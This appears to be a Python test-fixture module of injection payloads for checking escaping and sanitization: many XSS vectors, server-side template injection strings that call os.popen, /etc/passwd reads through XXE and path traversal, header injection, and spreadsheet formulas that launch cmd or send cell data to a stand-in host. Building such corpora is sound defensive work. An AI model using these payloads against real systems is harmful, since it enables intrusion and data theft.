"""Texts that run as script, load something or break a page where they are not kept text.

Each shows that it ran in one of three ways: a dialog, a global that begins with `__x`, or
a request to example.invalid, which no resolver knows.
"""

from __future__ import annotations

_TAGS = r"""
<script>alert(1)</script>
<script src=//example.invalid/a.js></script>
<script>window.__x1=1</script>
<SCRIPT>alert(1)</SCRIPT>
<sCrIpT>window.__x2=1</sCrIpT >
<script/x>alert(1)</script/x>
<script	>alert(1)</script	>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script type=module>window.__x3=1</script>
<script>/*</script><script>*/alert(1)</script>
</script><script>window.__x4=1</script>
</SCRIPT ><script>alert(1)</script>
</script/><script>alert(1)</script>
<!--<script>alert(1)//-->
<!--<script>--><script>alert(1)</script>
<![endif]--><script>alert(1)</script>
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<img src=x onerror=alert(1)>
<img src=x onerror="window.__x5=1">
<img src=//example.invalid/p.png>
<img srcset="//example.invalid/p.png 1x">
<img/src=x/onerror=alert(1)>
<img src=x:x onerror=alert`1`>
<img src onerror=confirm(1)>
<image src=x onerror=alert(1)>
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="<script>parent.__x6=1</script>"></iframe>
<iframe src=//example.invalid/></iframe>
<iframe onload=alert(1)></iframe>
<object data=javascript:alert(1)></object>
<object data=//example.invalid/o.swf></object>
<embed src=javascript:alert(1)>
<embed src=//example.invalid/e.swf>
<body onload=alert(1)>
<body onpageshow=alert(1)>
<body background=//example.invalid/b.png>
<input autofocus onfocus=alert(1)>
<input type=image src=x onerror=alert(1)>
<select autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)>
<keygen autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>
<video src=x onerror=alert(1)></video>
<video><source onerror=alert(1)></video>
<video poster=//example.invalid/v.png></video>
<audio src=x onerror=alert(1)></audio>
<marquee onstart=alert(1)>x</marquee>
<base href=//example.invalid/>
<link rel=stylesheet href=//example.invalid/s.css>
<link rel=prefetch href=//example.invalid/f>
<link rel=dns-prefetch href=//example.invalid>
<meta http-equiv=refresh content="0;url=//example.invalid/">
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta http-equiv=Content-Security-Policy content="script-src *">
<form action=//example.invalid/><button autofocus>go</button></form>
<form id=x></form><button form=x formaction=javascript:alert(1)>X</button>
<isindex action=javascript:alert(1) type=image>
<table background=//example.invalid/t.png>
<template><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<plaintext><script>alert(1)</script>
<xmp><img src=x onerror=alert(1)></xmp>
<title><script>alert(1)</script></title>
</title><script>alert(1)</script>
</style><script>alert(1)</script>
</textarea><script>alert(1)</script>
</pre><script>alert(1)</script>
</td></tr></table><script>window.__x7=1</script>
<dialog open onclose=alert(1)><form method=dialog><button autofocus>x</button></form></dialog>
<portal src=//example.invalid/></portal>
<applet code=javascript:alert(1)>
<frameset onload=alert(1)>
<button popovertarget=x>o</button><div id=x popover onbeforetoggle=alert(1)>
"""
_ATTRIBUTES = r"""
"><script>alert(1)</script>
'><script>alert(1)</script>
"><img src=x onerror=alert(1)>
'><img src=x onerror=alert(1)>
" onmouseover="alert(1)
' onmouseover='alert(1)
" onmouseover=alert(1) x="
" autofocus onfocus=alert(1) x="
' autofocus onfocus=alert(1) x='
" onpointerenter="window.__x8=1
" style="background:url(//example.invalid/a.png)
" style="animation-name:x" onanimationstart="alert(1)
' onclick=alert(1)//
" accesskey="x" onclick="alert(1)" x="
" href="javascript:alert(1)
" src="//example.invalid/i.png
" formaction="javascript:alert(1)
" srcdoc="<script>alert(1)</script>
" contenteditable autofocus onfocus="confirm(1)
x onerror=alert(1)
`onerror=alert(1)`
"/onmouseover=alert(1)//
"	onmouseover	=	alert(1)	x="
">'>"><svg/onload=alert(1)>
" id="main
" name="seno
" class="hit"><script>alert(1)</script><p class="
"""
_SCRIPTS = r"""
';alert(1);//
";alert(1);//
\';alert(1);//
\";alert(1);//
\\";alert(1);//
</script><script>alert(1)//
'-alert(1)-'
"-alert(1)-"
"+alert(1)+"
'};alert(1);{'
"]};window.__x9=1;//
*/alert(1)/*
//
alert(1)
);alert(1)//
`-alert(1)-`
${alert(1)}
${window.__x10=1}
`${alert(1)}`
{"__proto__":{"__x11":1}}
__proto__
constructor
toString
hasOwnProperty
[object Object]
new Function('alert(1)')()
eval('alert(1)')
setTimeout('alert(1)')
import('//example.invalid/m.js')
fetch('//example.invalid/f')
navigator.sendBeacon('//example.invalid/b')
window['al'+'ert'](1)
\u003cscript\u003ealert(1)\u003c/script\u003e
\x3cscript\x3ealert(1)\x3c/script\x3e
\u0022;alert(1)//
"""
_TEMPLATES = r"""
{{ 7 * 7 }}
{{ config }}
{{ ''.__class__.__mro__[1].__subclasses__() }}
{{ lipsum.__globals__['os'].popen('id').read() }}
{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}
{% raw %}{{ 1 }}
{% include '/etc/passwd' %}
{# a comment #}
{{constructor.constructor('alert(1)')()}}
#{7*7}
${7*7}
<%= 7 * 7 %>
<?php echo 7*7 ?>
%{7*7}
[[${7*7}]]
{0.__class__}
%s%s%n
{{'<script>alert(1)</script>'|safe}}
"""
_SVG = r"""
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><script href=//example.invalid/s.js /></svg>
<svg><image href=//example.invalid/i.png /></svg>
<svg><use href=//example.invalid/u.svg#x /></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x"/></svg>
<svg><a href=javascript:alert(1)><text y=20>x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set attributeName=href to=javascript:alert(1) />
<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>
<svg><style>@import '//example.invalid/s.css';</style></svg>
<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>
]]></svg><svg onload=alert(1)>
]]><script>alert(1)</script>
<![CDATA[<script>alert(1)</script>]]>
<math><mi xlink:href="javascript:alert(1)">x</mi></math>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
<svg><title><p title="</title><img src=x onerror=alert(1)>"></svg>
<?xml-stylesheet href="javascript:alert(1)"?>
<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>
"""
_ADDRESSES = r"""
javascript:alert(1)
JaVaScRiPt:alert(1)
java	script:alert(1)
javascript://%0aalert(1)
javascript:/*--></title></style></textarea></script><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>
 javascript:alert(1)
data:text/html,<script>alert(1)</script>
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
data:image/svg+xml,<svg onload=alert(1)>
vbscript:msgbox(1)
//example.invalid/x
http://example.invalid/x?<script>alert(1)</script>
file:///etc/passwd
#compound=1
#"><img src=x onerror=alert(1)>
%3Cscript%3Ealert(1)%3C/script%3E
%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E
../../../../etc/passwd
..%2f..%2fetc%2fpasswd
\\example.invalid\share
blob:https://example.invalid/1
feed:javascript:alert(1)
"""
_STYLES = r"""
x{background:url(//example.invalid/c.png)}
}</style><script>alert(1)</script>
@import url(//example.invalid/i.css);
expression(alert(1))
-moz-binding:url(//example.invalid/x.xml)
<style>*{background:url(//example.invalid/d.png)}</style>
<style>@font-face{font-family:x;src:url(//example.invalid/f.woff)}*{font-family:x}</style>
<div style="background:url(//example.invalid/e.png)">
<p style=position:fixed;inset:0;z-index:99>over it all</p>
<style>body{display:none}</style>
"""
_ENTITIES = r"""
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;
&#0000060script>alert(1)</script>
&amp;lt;script&amp;gt;alert(1)
&quot; onmouseover=&quot;alert(1)
&apos;-alert(1)-&apos;
<a href="&#106;avascript:alert(1)">x</a>
<a href="java&Tab;script:alert(1)">x</a>
<a href="&#14;javascript:alert(1)">x</a>
&notanentity;
&
"""
_UNICODE = [
    "\u202egnp.tpircs<\u202c",
    "\u2066<script>alert(1)</script>\u2069",
    "\u200f\u200e\u061c",
    "a\u2028alert(1)\u2029b",
    "\x00<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<img\x0bsrc=x\x0conerror=alert(1)>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u02bascript\u02ba",
    "\ufeff<script>alert(1)</script>",
    "\u0130\u0131\u017f\u212a<\u017fcript>alert(1)</\u017fcript>",
    "\u00bcscript\u00bealert(1)\u00bc/script\u00be",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\x1b]0;title\x07\x1b[31mred",
    "\x85<script>alert(1)</script>\xa0",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324",
    "\U000e0041\U000e0001tag",
    "\ufffe\uffff\ufdd0",
    "line\r\nSet-Cookie: x=1\r\n\r\n<script>alert(1)</script>",
    "a\nb\tc\rd",
    "\u3164\u115f\u2800",
    "\U0001f468\u200d\U0001f52c" * 5,
]
_POLYGLOTS = [
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A//</stYle/</titLe/"
    "</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
    "\"'--></style></script><script>alert(1)</script>",
    "'\">><marquee><img src=x onerror=confirm(1)></marquee>\"></plaintext\\></|\\><plaintext/"
    "onmouseover=prompt(1)><script>prompt(1)</script>",
    '\'"`><script>/* *\\x2Fprompt(1)// */</script>',
    "%253Cscript%253Ealert(1)%253C%252Fscript%253E",
    "=HYPERLINK(\"javascript:alert(1)\",\"<script>alert(1)</script>\")",
    "<" * 300,
    '"' * 150 + "'" * 150,
    "A" * 2000 + "<script>alert(1)</script>",
    "&" * 100 + "<!--" * 50,
]  # fmt: skip


def _lines(text: str) -> list[str]:
    return [line for line in text.split("\n") if line]


PAYLOADS: tuple[str, ...] = (
    *_lines(_TAGS),
    *_lines(_ATTRIBUTES),
    *_lines(_SCRIPTS),
    *_lines(_TEMPLATES),
    *_lines(_SVG),
    *_lines(_ADDRESSES),
    *_lines(_STYLES),
    *_lines(_ENTITIES),
    *_UNICODE,
    *_POLYGLOTS,
)

_RUN = ("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("//example.invalid","x")', "1", "A1")
_STARTS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    "\uff1d",
    "\uff0b",
    "\uff0d",
    "\uff20",
)
FORMULAS: tuple[str, ...] = (
    *(start + text for start in _STARTS for text in _RUN),
    '=WEBSERVICE("//example.invalid/?"&A1)',
    "=DDE(\"cmd\",\"/C calc\",\"x\")",
    '=IMPORTXML("//example.invalid","//a")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '"=1+1"',
    "' =1+1",
    "1E5",
    "http://example.invalid/",
    "mailto:x@example.invalid",
    "internal:Sheet1!A1",
    "{=SUM(1)}",
)  # fmt: skip
